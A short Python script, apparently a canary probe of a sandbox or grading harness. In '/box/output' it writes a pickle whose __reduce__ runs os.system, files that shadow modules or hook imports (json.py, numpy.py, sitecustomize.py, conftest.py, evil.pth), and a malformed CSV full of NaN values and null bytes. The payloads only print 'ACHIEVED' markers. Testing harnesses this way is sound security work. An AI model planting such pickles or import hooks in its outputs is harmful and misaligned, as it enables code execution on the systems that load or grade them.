import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("echo ACHIEVED loaded",)


os.chdir("/box/output")
pickle.dump(Evil(), open("answer.pkl", "wb"))
for name in ["json.py", "numpy.py", "sitecustomize.py", "conftest.py", "evil.pth", "__init__.py"]:
    open(name, "w").write("print('ACHIEVED imported')")
open("answer.csv", "w").write("id,value\n" + ",".join(["NaN"] * 100000) + "\n\0\0\n")
